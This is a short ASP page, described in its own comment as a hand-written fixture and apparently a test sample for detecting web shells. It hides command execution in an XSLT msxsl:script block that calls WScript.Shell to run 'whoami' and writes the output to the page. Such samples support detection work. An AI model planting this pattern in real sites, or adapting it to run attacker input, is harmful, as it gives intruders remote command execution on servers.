<%
' Hand-written fixture: command execution hidden in an XSLT script block.
Set doc = Server.CreateObject("MSXML2.DOMDocument")
doc.loadXML "<?xml version=""1.0""?><r>whoami</r>"
Set sheet = Server.CreateObject("MSXML2.DOMDocument")
sheet.loadXML "<xsl:stylesheet version=""1.0"" xmlns:xsl=""http://www.w3.org/1999/XSL/Transform"" xmlns:msxsl=""urn:schemas-microsoft-com:xslt"" xmlns:f=""urn:f""><msxsl:script language=""JScript"" implements-prefix=""f"">function run(c) { var s = new ActiveXObject('WScript.Shell'); return s.Exec(c).StdOut.ReadAll(); }</msxsl:script><xsl:template match=""/r""><xsl:value-of select=""f:run(string(.))""/></xsl:template></xsl:stylesheet>"
Response.Write doc.transformNode(sheet)
%>
